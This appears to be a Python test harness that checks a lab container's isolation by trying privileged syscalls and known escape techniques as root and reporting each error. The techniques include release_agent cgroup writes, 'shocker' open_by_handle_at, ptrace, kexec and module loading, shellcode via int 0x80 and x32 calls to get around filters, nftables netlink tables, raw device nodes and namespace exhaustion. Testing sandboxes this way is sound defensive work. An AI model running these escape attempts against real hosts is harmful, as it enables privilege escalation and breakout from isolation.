"""What root of a lab tries against the kernel and the server: a program that runs in the lab.

    python3 attempts.py NAME [ARGUMENT …]

tries one thing once and says what came of it: the name of an error, `nothing` where there was
nothing to be had, or `DONE`, which no attack may come to. With `--for-ever` first it goes on
trying. Standard library only: it runs with the lab's own Python.
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import glob
import mmap
import os
import platform
import signal
import socket
import struct
import sys
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable

LIBC = ctypes.CDLL(None, use_errno=True)
IS_X86 = platform.machine() == "x86_64"
# By name, for x86_64 and for aarch64.
CALLS = {
    "bpf": (321, 280),
    "perf_event_open": (298, 241),
    "userfaultfd": (323, 282),
    "io_uring_setup": (425, 425),
    "keyctl": (250, 219),
    "add_key": (248, 217),
    "request_key": (249, 218),
    "init_module": (175, 105),
    "finit_module": (313, 273),
    "kexec_load": (246, 104),
    "kexec_file_load": (320, 294),
    "open_by_handle_at": (304, 265),
    "reboot": (169, 142),
    "swapon": (167, 224),
    "mount": (165, 40),
    "fsopen": (430, 430),
    "open_tree": (428, 428),
    "move_mount": (429, 429),
    "pivot_root": (155, 41),
    "unshare": (272, 97),
    "clone3": (435, 435),
    "setns": (308, 268),
    "ptrace": (101, 117),
    "process_vm_readv": (310, 270),
    "clock_settime": (227, 112),
    "settimeofday": (164, 170),
    "acct": (163, 89),
    "quotactl": (179, 60),
    "sched_setattr": (314, 274),
    "syslog": (103, 116),
    "iopl": (172, 0),
    "mknodat": (259, 33),
    "name_to_handle_at": (303, 264),
    "lookup_dcookie": (212, 18),
    "nfsservctl": (180, 42),
    "vhangup": (153, 58),
    "socket": (41, 198),
    "setsockopt": (54, 208),
    "prctl": (157, 167),
    "seccomp": (317, 277),
    "io_setup": (206, 0),
}


def call(name: str, *args: object) -> int:
    """A system call; raises what the kernel says."""
    number = CALLS[name][0 if IS_X86 else 1]
    wide = [ctypes.c_long(each) if isinstance(each, int) else each for each in args]
    result = LIBC.syscall(number, *wide)
    if result < 0:
        raise OSError(ctypes.get_errno(), name)
    return int(result)


def simple(name: str, *args: object) -> str:
    call(name, *args)
    return "DONE"


def read(path: str) -> str:
    with open(path, "rb") as file:
        return "DONE" if file.read(64).strip(b"\0\n ") else "nothing"


def write(path: str, text: str) -> str:
    with open(path, "w") as file:
        file.write(text)
    return "DONE"


def listed(pattern: str) -> str:
    return "DONE" if glob.glob(pattern) else "nothing"


def device(kind: str, major: str, minor: str) -> str:
    bits = {"b": 0o60600, "c": 0o20600}[kind]
    path = b"/tmp/device"
    with contextlib.suppress(FileNotFoundError):
        os.unlink(path)
    call("mknodat", -100, path, bits, os.makedev(int(major), int(minor)))
    return read("/tmp/device")


def mount(source: str, kind: str) -> str:
    os.makedirs("/tmp/mounted", exist_ok=True)
    call("mount", source.encode(), b"/tmp/mounted", kind.encode(), 0, b"")
    return "DONE"


def release_agent() -> str:
    """On cgroup v1 this file names a program that the server's root would run."""
    found = glob.glob("/sys/fs/cgroup/**/release_agent", recursive=True)
    found += glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True)
    for path in found:
        with contextlib.suppress(OSError):
            return write(path, "/tmp/mine" if path.endswith("agent") else "0")
    try:
        return mount("cgroup", "cgroup")
    except OSError:
        return mount("cgroup2", "cgroup2")


def attach(pid: str) -> str:
    call("ptrace", 16, int(pid), 0, 0)
    return "DONE"


def peek(pid: str) -> str:
    buffer = ctypes.create_string_buffer(8)
    local = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 8)
    call("process_vm_readv", int(pid), local, 1, local, 1, 0)
    return "DONE"


def kill(pid: str) -> str:
    os.kill(int(pid), 0)
    return "DONE"


def open_of(pid: str, name: str) -> str:
    return read(f"/proc/{pid}/{name}")


def realtime() -> str:
    os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50))
    return "DONE"


def nice() -> str:
    os.setpriority(os.PRIO_PROCESS, 0, -20)
    return "DONE"


def oom() -> str:
    return write("/proc/self/oom_score_adj", "-1000")


def escape_by_handle() -> str:
    """Open the server's root by its inode number, past every mount (“shocker”)."""
    handle = struct.pack("=Ii", 8, 1) + struct.pack("=Q", 2)
    buffer = ctypes.create_string_buffer(handle)
    here = os.open("/etc/hosts", os.O_RDONLY)
    try:
        call("open_by_handle_at", here, buffer, os.O_RDONLY)
    finally:
        os.close(here)
    return "DONE"


def new_user_namespace() -> str:
    call("unshare", 0x10000000)
    return "DONE"


def clone_user_namespace() -> str:
    arguments = struct.pack("=8Q", 0x10000000, 0, 0, 0, signal.SIGCHLD, 0, 0, 0)
    if call("clone3", ctypes.create_string_buffer(arguments), len(arguments)) == 0:
        os._exit(0)
    return "DONE"


def enter_first(kind: str) -> str:
    """Into a namespace of process 1, which is the lab's own: nothing is won, or it is refused."""
    fd = os.open(f"/proc/1/ns/{kind}", os.O_RDONLY)
    try:
        call("setns", fd, 0)
    finally:
        os.close(fd)
    return "DONE"


def by_32_bit_call(number: str) -> str:
    """The same kernel by its old door, `int 0x80`, whose calls have other numbers."""
    if not IS_X86:
        return "nothing"
    code = bytes.fromhex("b8") + struct.pack("<I", int(number)) + bytes.fromhex("bb00000010cd80c3")
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(b"\x53" + code[:-1] + b"\x5b\xc3")
    function = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    return in_child(function)


def by_x32_call(number: str) -> str:
    """The same kernel by its third door: numbers with bit 30 set."""
    if not IS_X86:
        return "nothing"

    def tried() -> int:
        result = LIBC.syscall(0x40000000 | int(number), 0x10000000, 0, 0, 0)
        return int(result) if result >= 0 else -ctypes.get_errno()

    return in_child(tried)


def in_child(tried: Callable[[], int]) -> str:
    """What came of it, where it may end the process."""
    ends = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.write(ends[1], struct.pack("=i", tried()))
        os._exit(0)
    os.close(ends[1])
    told = os.read(ends[0], 4)
    os.close(ends[0])
    _, status = os.waitpid(pid, 0)
    if os.WIFSIGNALED(status):
        return signal.Signals(os.WTERMSIG(status)).name
    (result,) = struct.unpack("=i", told)
    return "DONE" if result >= 0 else errno.errorcode[-result]


def abstract_sockets() -> str:
    """Sockets without a file are seen by whoever shares the network namespace."""
    with open("/proc/net/unix") as table:
        names = [line.split()[-1] for line in table if "@" in line]
    return "DONE" if names else "nothing"


def connect(address: str, port: str) -> str:
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family) as client:
        client.settimeout(5)
        client.connect((address, int(port)))
    return "DONE"


def connect_abstract(name: str) -> str:
    with socket.socket(socket.AF_UNIX) as client:
        client.connect("\0" + name)
    return "DONE"


def netlink(group: str) -> str:
    """Ask for the kernel's device events, of which udev's come by here."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 15) as ear:
        ear.bind((0, int(group)))
        ear.settimeout(0.3)
        return "DONE" if ear.recv(4096) else "nothing"


def socket_of(family: str, protocol: str) -> str:
    """A socket by its numbers, which may be wider than the kernel's own."""
    os.close(call("socket", int(family), socket.SOCK_RAW, int(protocol)))
    return "DONE"


def stream_of(protocol: str) -> str:
    """A transport that isn't there, for which the kernel has the server look for a module."""
    os.close(call("socket", socket.AF_INET, socket.SOCK_STREAM, int(protocol)))
    return "DONE"


def option(number: str) -> str:
    """Give the old packet filters a table: an empty one, which they would refuse themselves."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        value = ctypes.create_string_buffer(64)
        call("setsockopt", client.fileno(), 0, ctypes.c_long(int(number)), value, len(value))
    return "DONE"


def socket_filter(level: str, option: str) -> str:
    """A filter of one's own on a socket, which the kernel translates for the processor."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        program = _filter(0)
        arguments = (ctypes.c_long(int(level)), ctypes.c_long(int(option)))
        call("setsockopt", client.fileno(), *arguments, program, len(program))
    return "DONE"


def process_filter(name: str) -> str:
    """A filter of one's own for a process, by either call; `nothing`: the kernel has none."""
    call("prctl", 38, 1, 0, 0, 0)  # PR_SET_NO_NEW_PRIVS, as whoever isn't root of the server must
    first = (22, 2) if name == "prctl" else (1, 0)
    try:
        call(name, *first, _filter(0x7FFF0000))  # SECCOMP_RET_ALLOW
    except OSError as error:
        return "nothing" if error.errno == errno.EINVAL else errno.errorcode[error.errno or 0]
    return "DONE"


def _filter(value: int) -> ctypes.Array[ctypes.c_char]:
    """One line, that returns a value: struct sock_fprog of the kernel."""
    code = ctypes.create_string_buffer(struct.pack("=HBBI", 6, 0, 0, value), 8)
    program = ctypes.create_string_buffer(struct.pack("@HP", 1, ctypes.addressof(code)), 16)
    _held.append(code)
    return program


_held: list[object] = []


def disk_requests() -> str:
    """Room for the kernel's asynchronous I/O, of which the whole machine has so much."""
    call("io_setup", 128, ctypes.byref(ctypes.c_ulong()))
    return "DONE"


def namespaces(kind: str, users: str, each: str) -> str:
    """Make namespaces as many users, and keep them all; how many there were, and what said no."""
    held: list[int] = []
    why = "nothing"
    for uid in range(2000, 2000 + int(users)):
        mine, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
        if os.fork() == 0:
            theirs.send(_make_namespaces(theirs, uid, int(kind), int(each)).encode())
            os._exit(0)
        theirs.close()
        while True:
            said, fds, _, _ = socket.recv_fds(mine, 64, 4)
            held += fds
            if not fds:
                break
        os.wait()
        mine.close()
        why = said.decode()
    for fd in held:
        os.close(fd)
    return f"{len(held)} {why}"


def _make_namespaces(to: socket.socket, uid: int, kind: int, count: int) -> str:
    user = 0x10000000
    name = {user: "user", 0x40000000: "net", 0x20000: "mnt", 0x8000000: "ipc"}[kind]
    os.setresgid(uid, uid, uid)
    os.setresuid(uid, uid, uid)
    for _ in range(count):
        child = os.fork()
        if child == 0:
            try:
                call("unshare", user | kind)
                fd = os.open(f"/proc/self/ns/{name}", os.O_RDONLY)
                socket.send_fds(to, [b"one"], [fd])
            except OSError as error:
                os._exit(error.errno or 1)
            os._exit(0)
        _, status = os.waitpid(child, 0)
        if status:
            return errno.errorcode[os.waitstatus_to_exitcode(status)]
    return "nothing"


def firewall() -> str:
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12) as client:
        client.bind((0, 0))
        # NFT_MSG_NEWTABLE within a batch: a table of our own would be the beginning of more.
        generation = struct.pack("=BBH", 2, 0, 0)
        name = struct.pack("=HH", 6, 1) + b"x\0\0\0"
        batch = struct.pack("=BBH", 0, 0, socket.htons(10))
        parts = [(16, 1, batch), (0xA00, 0x405, generation + name), (17, 1, batch)]
        packet = b"".join(
            struct.pack("=IHHII", 16 + len(body), kind, flags, number, 0) + body
            for number, (kind, flags, body) in enumerate(parts)
        )
        client.send(packet)
        client.settimeout(1)
        answer = client.recv(4096)
        code = struct.unpack_from("=i", answer, 16)[0]
        if code < 0:
            raise OSError(-code, "nft")
    return "DONE"


def main(words: list[str]) -> int:
    for_ever = words[0] == "--for-ever"
    name, *args = words[1:] if for_ever else words
    attempt = globals()[name] if name in globals() else lambda *_: simple(name, *NUMBERS)
    while True:
        try:
            said = attempt(*args)
        except TimeoutError:
            said = "ETIMEDOUT"
        except OSError as error:
            said = errno.errorcode.get(error.errno or 0, str(error))
        if not for_ever:
            print(said)
            return 0


NUMBERS = (0, 0, 0, 0, 0)

if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
